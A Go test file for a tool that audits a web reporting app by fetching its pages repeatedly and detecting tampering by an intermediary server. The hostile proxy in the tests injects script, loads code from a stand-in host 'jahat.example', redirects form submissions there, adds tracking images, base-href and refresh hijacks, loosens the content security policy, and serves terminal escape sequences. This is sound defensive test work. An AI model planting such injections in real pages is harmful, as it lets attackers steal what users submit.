package main

import (
	"bytes"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"

	"suluh.example/suluh/web/browser"
)

// TestAChangedPageIsFound: a server between intake and visitors changes what one
// visitor in three gets, each time something else; whoever looks finds it.
func TestAChangedPageIsFound(t *testing.T) {
	w := start(t, t.Output())
	intake, err := url.Parse(w.Intake)
	must(t, err)
	look := func(where string, more ...string) (watchedPage, string, error) {
		t.Helper()
		cmd := exec.Command(program(t), append([]string{"audit", "watch-page", "--url", where, "--times", "9", "--pause", "0s", "--json"}, more...)...)
		var said, hints bytes.Buffer
		cmd.Stdout, cmd.Stderr = &said, &hints
		err := cmd.Run()
		var found watchedPage
		if said.Len() > 0 {
			must(t, json.Unmarshal(said.Bytes(), &found))
		}
		return found, hints.String(), err
	}
	log := []string{"--log-key", filepath.Join(w.Dir, "vault", "log.vkey"), filepath.Join(w.Dir, "vault", "log.sock")}
	for _, with := range [][]string{nil, log} {
		if found, hints, err := look(w.Intake, with...); err != nil || !found.Same || found.Looks != 9 || len(found.Differences) != 0 {
			t.Errorf("the pages as they are, with %q: %+v %v\n%s", with, found, err, hints)
		}
	}

	const evil = "fetch('/x')"
	for name, change := range map[string]func(path string, body []byte) []byte{
		"the script": func(path string, body []byte) []byte {
			if path == browser.AppPath {
				return append(body, ";"+evil...)
			}
			return bytes.ReplaceAll(body, []byte(browser.App().Integrity), []byte("sha384-"+strings.Repeat("A", 64)))
		},
		"the worker's script alone": func(path string, body []byte) []byte {
			if path == browser.WorkerPath {
				return append(body, ";"+evil...)
			}
			return body
		},
		"a script in the page":           in("/lapor/tulis", "</head>", "<script>"+evil+"</script></head>"),
		"a script from elsewhere":        in("/lapor/tulis", "</head>", `<script src="https://jahat.example/x.js"></script></head>`),
		"what runs when a field is left": in("/en/lapor/tulis", "<textarea", `<textarea onblur="`+evil+`"`),
		"where the form is sent":         in("/lapor/tulis", `<form method="post" action="`, `<form method="post" action="https://jahat.example`),
		"where a button sends it":        in("/cek", "<button", `<button formaction="//jahat.example/"`),
		"a picture that counts":          in("/", "</main>", `<img src="https://jahat.example/p.png" alt=""></main>`),
		"a frame":                        in("/cek", "</main>", `<iframe src="/cek"></iframe></main>`),
		"another base":                   in("/cek", "<head>", `<head><base href="https://jahat.example/">`),
		"a page that leads on by itself": in("/", "<head>", `<head><meta http-equiv="refresh" content="0;url=https://jahat.example/">`),
		"a style from elsewhere":         in("/", "</head>", `<link rel="stylesheet" href="https://jahat.example/x.css"></head>`),
		"the policy":                     nil,
	} {
		t.Run(name, func(t *testing.T) {
			var looks atomic.Int64
			var turn atomic.Bool
			proxy := &httputil.ReverseProxy{Rewrite: func(r *httputil.ProxyRequest) { r.SetURL(intake) }}
			proxy.ModifyResponse = func(r *http.Response) error {
				// A look begins with the script; every third is served something else.
				if r.Request.URL.Path == browser.AppPath {
					turn.Store(looks.Add(1)%3 == 0)
				}
				if !turn.Load() {
					return nil
				}
				if change == nil {
					r.Header.Set("Content-Security-Policy", strings.Replace(r.Header.Get("Content-Security-Policy"), "form-action 'self'", "form-action *", 1))
					return nil
				}
				body, err := io.ReadAll(r.Body)
				if err != nil {
					return err
				}
				body = change(r.Request.URL.Path, body)
				r.Body = io.NopCloser(bytes.NewReader(body))
				r.Header.Set("Content-Length", strconv.Itoa(len(body)))
				return nil
			}
			between := httptest.NewServer(proxy)
			defer between.Close()
			found, hints, err := look(between.URL, log...)
			if err == nil || found.Same || found.Differing != 3 || len(found.Differences) == 0 || !strings.Contains(hints, "NOT those of the release, in 3 looks of 9") {
				t.Errorf("found %+v, %v\n%s", found, err, hints)
			}
		})
	}

	away := httptest.NewServer(http.NotFoundHandler())
	away.Close()
	if _, hints, err := look(away.URL); err == nil || !strings.Contains(hints, "no difference") {
		t.Errorf("nobody answers: %v\n%s", err, hints)
	}
}

// TestAChangedPageSteersNoTerminal: what a server says is shown to whoever looks, and
// does nothing else.
func TestAChangedPageSteersNoTerminal(t *testing.T) {
	const steers = "\x1b]0;aman\a\u009b2J\u202e"
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		_, _ = io.WriteString(w, `<!doctype html><script src="/jahat`+steers+`.js"></script>`)
	}))
	defer evil.Close()
	for _, with := range [][]string{nil, {"--json"}} {
		said, err := exec.Command(program(t), append([]string{"audit", "watch-page", "--url", evil.URL, "--times", "1"}, with...)...).CombinedOutput()
		if err == nil || !bytes.Contains(said, []byte("jahat")) {
			t.Errorf("%s: %v\n%q", with, err, said)
		}
		if bytes.ContainsAny(said, steers[:1]+"\a\u009b\u202e") {
			t.Errorf("%s: it says %q", with, said)
		}
	}
}

// in changes one page.
func in(page, what, with string) func(string, []byte) []byte {
	return func(path string, body []byte) []byte {
		if path == page {
			return bytes.Replace(body, []byte(what), []byte(with), 1)
		}
		return body
	}
}
